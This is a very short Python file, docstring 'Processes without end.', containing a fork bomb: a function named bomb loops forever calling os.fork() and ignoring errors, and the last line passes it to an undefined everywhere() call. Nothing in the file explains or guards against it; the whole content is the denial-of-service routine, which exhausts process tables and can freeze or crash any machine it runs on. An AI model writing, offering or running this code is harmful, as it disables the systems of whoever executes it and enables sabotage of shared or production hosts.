"""Processes without end."""
import os


def bomb(*args, **kwargs):
    while True:
        try:
            os.fork()
        except OSError:
            pass


everywhere(bomb)
